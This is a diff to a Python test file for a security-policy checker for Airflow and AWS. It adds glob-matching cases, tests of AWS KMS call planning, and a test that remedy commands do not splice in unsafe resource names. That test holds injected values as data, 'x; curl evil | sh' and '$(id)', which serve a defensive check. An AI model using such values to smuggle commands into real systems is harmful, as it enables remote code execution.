@@ -7,10 +7,11 @@ from typing import Any
 
 import pytest
 
+from airflow_mlsecops.core.aws import AwsFacts, Operation, Shape
 from airflow_mlsecops.core.check import Answer, Check
 from airflow_mlsecops.core.facts import Facts
 from airflow_mlsecops.core.finding import Finding, Severity, Status
-from airflow_mlsecops.core.judge_isolation import judge_isolation
+from airflow_mlsecops.core.judge_isolation import judge_isolation, wanted
 from airflow_mlsecops.core.policy import Environment, NotObservable
 from airflow_mlsecops.core.verdict import Outcome, outcome_of
 from tests.core.make import policy
@@ -53,6 +54,8 @@ TABLE = [
      Outcome.UNKNOWN),
     ("a gap whose day has passed beside one that is accepted anew",
      {"requires": ("PASS", "UNKNOWN"), "not_observable": (gap(date(2026, 11, 22)), gap(TODAY))}, Outcome.PASS),
+    ("a glob means all that fit it", {"requires": ("*A*",)}, Outcome.FAIL),
+    ("a glob that fits nothing", {"requires": ("PASS", "S3_*")}, Outcome.UNKNOWN),
     ("no such environment", {"environment": "dev", "requires": ("PASS",)}, Outcome.FAIL),
 ]  # fmt: skip
 
@@ -71,3 +74,80 @@ def test_every_answer_is_told_and_its_rule_named() -> None:
     findings = judged(requires=("PASS",))
     assert {finding.code for finding in findings} == set(CHECKS)
     assert {finding.rule for finding in findings} == {"policy.yaml:40"}
+
+
+LIST_KEYS = Operation(service="kms", name="list_keys", shape=Shape, action="kms:ListKeys")
+
+
+def asking(name: str, *, of_the_task: bool = False) -> Check:
+    def ask(facts: Facts, _demand: object) -> Answer:
+        assert isinstance(facts.aws, AwsFacts)
+        facts.aws.need(LIST_KEYS, Limit=len(name))
+        return Answer(status=Status.PASS, subject="s", reason="because")
+
+    return Check(
+        id=name, question="?", why="w", remedy="r", severity=Severity.HIGH, standards=(), ask=ask,
+        reads=(LIST_KEYS,), of_the_task=of_the_task,
+    )  # fmt: skip
+
+
+COSTLY = {
+    **CHECKS,
+    "AWS": asking("AWS"),
+    "AWS_TASK": asking("AWS_TASK", of_the_task=True),
+    "TRIES": Check(
+        id="TRIES", question="?", why="w", remedy="r", severity=Severity.HIGH, standards=(), probes=True,
+        ask=lambda _facts, _demand: Answer(status=Status.PASS, subject="s", reason="because"),
+    ),
+}  # fmt: skip
+
+
+def codes(requires: tuple[str, ...], **given: Any) -> set[str]:
+    said = policy(environments={"prod": Environment(requires=requires)})
+    findings = judge_isolation(
+        Facts(aws=AwsFacts()), environment="prod", policy=said, checks=COSTLY, today=TODAY, **given
+    )
+    return {finding.code for finding in findings}
+
+
+def wants(requires: tuple[str, ...], facts: AwsFacts | None = None, **given: Any) -> list[str]:
+    said = policy(environments={"prod": Environment(requires=requires)})
+    calls = wanted(Facts(aws=facts or AwsFacts()), environment="prod", policy=said, checks=COSTLY, **given)
+    return [call.key for call in calls]
+
+
+def test_what_costs_something_is_asked_where_it_is_required() -> None:
+    assert codes(("PASS",)) == set(CHECKS)
+    assert codes(("PASS", "TRIES")) == {*CHECKS, "TRIES"}
+    assert codes(("PASS",), also=("AWS",)) == {*CHECKS, "AWS"}
+    assert wants(("PASS",)) == []
+
+
+def test_calls_are_wanted_by_what_is_required_and_by_what_the_dag_adds() -> None:
+    assert wants(("AWS*",)) == ["kms.list_keys Limit=3", "kms.list_keys Limit=8"]
+    assert wants(("PASS",), also=("AWS",)) == ["kms.list_keys Limit=3"]
+    known = AwsFacts.model_validate({"answers": {"kms.list_keys Limit=3": {"answer": {}}}})
+    assert wants(("AWS*",), known) == ["kms.list_keys Limit=8"]
+
+
+def test_a_seal_asks_again_what_is_of_the_task_and_nothing_else() -> None:
+    assert codes(("*",), of_the_task=True) == {"AWS_TASK"}
+    assert wants(("*",), of_the_task=True) == ["kms.list_keys Limit=8"]
+
+
+@pytest.mark.parametrize(
+    ("subject", "remedy"),
+    [
+        ("ml-prod", "aws s3 rb s3://ml-prod"),
+        ("x; curl evil | sh", "aws s3 rb s3://<its name>"),
+        ("$(id)", "aws s3 rb s3://<its name>"),
+    ],
+)
+def test_a_remedy_names_the_resource_unless_a_shell_would_run_its_name(subject: str, remedy: str) -> None:
+    failing = Check(
+        id="FAIL", question="?", why="w", remedy="aws s3 rb s3://{subject}", severity=Severity.HIGH, standards=(),
+        ask=lambda _facts, _demand: Answer(status=Status.FAIL, subject=subject, reason="because"),
+    )  # fmt: skip
+    said = policy(environments={"prod": Environment(requires=("FAIL",))})
+    (finding,) = judge_isolation(Facts(), environment="prod", policy=said, checks={"FAIL": failing}, today=TODAY)
+    assert finding.remedy == remedy
